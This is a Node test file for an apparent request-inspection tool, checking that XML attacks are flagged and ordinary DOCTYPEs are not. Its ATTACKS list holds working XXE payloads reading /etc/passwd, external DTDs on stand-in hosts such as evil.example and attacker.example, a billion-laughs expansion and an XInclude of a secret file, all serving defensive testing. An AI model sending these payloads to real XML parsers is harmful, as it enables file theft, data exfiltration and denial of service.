import { test } from 'node:test';
import assert from 'node:assert/strict';
import { everywhere, inspect } from './helpers.js';

// XML external entities, entity expansion, external DTDs and XInclude; and the DOCTYPEs ordinary documents carry.

const xml = (body: string) => inspect({ body, contentType: 'application/xml' });
const rules = (r: ReturnType<typeof inspect>): string => JSON.stringify(r.findings.map((f) => `${f.rule}@${f.location}`));

const ATTACKS = [
  '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
  '<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]><r/>',
  '<!DOCTYPE r [\n  <!ENTITY\n    xxe   PUBLIC "-//x//y" "http://evil.example/a">\n]><r>&xxe;</r>',
  // a harmless-looking first entity does not hide the external one after it
  `<!DOCTYPE r [<!ENTITY intro "${'x'.repeat(500)}"><!ENTITY xxe SYSTEM "file:///etc/hostname">]><r>&xxe;</r>`,
  // entity expansion (billion laughs), also through parameter entities
  '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>',
  // external DTDs: a URL or an absolute path, whatever public id is claimed
  '<!DOCTYPE data SYSTEM "http://attacker.example/evil.dtd"><data>&send;</data>',
  '<!DOCTYPE foo SYSTEM "file:///etc/passwd"><foo/>',
  '<!DOCTYPE foo SYSTEM "/usr/share/yelp/dtd/docbookx.dtd"><foo/>',
  '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/x.dtd"><svg/>',
  '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org.evil.example/x.dtd"><svg/>',
  '<root xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="secret.txt"/></root>',
];

const BENIGN = [
  '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>',
  '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>',
  '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict><key>PayloadType</key><string>Configuration</string></dict></plist>',
  '<!DOCTYPE mapper PUBLIC "-//mybatis.org//DTD Mapper 3.0//EN" "http://mybatis.org/dtd/mybatis-3-mapper.dtd"><mapper namespace="x"/>',
  '<!DOCTYPE log4j:configuration SYSTEM "log4j.dtd"><log4j:configuration/>',
  '<!DOCTYPE html><html><body>hello</body></html>',
  '<note><body>Entities like &amp;amp; and the word ENTITY in text are fine; so is <!-- a DOCTYPE comment --></body></note>',
];

test('XXE, entity expansion, external DTDs and XInclude are flagged', () => {
  for (const a of ATTACKS) {
    const res = xml(a);
    assert.ok(res.attack && res.findings.some((f) => f.category === 'xxe'), `${a.slice(0, 70)} → ${rules(res)}`);
  }
  // inside a JSON field or a form value too
  for (const r of everywhere(ATTACKS[0]!)) assert.ok(inspect(r).attack);
});

test('ordinary DOCTYPEs (SVG, XHTML, plists, MyBatis, a relative DTD) are not flagged', () => {
  for (const b of BENIGN) assert.equal(xml(b).attack, false, `${b.slice(0, 70)} → ${rules(xml(b))}`);
});
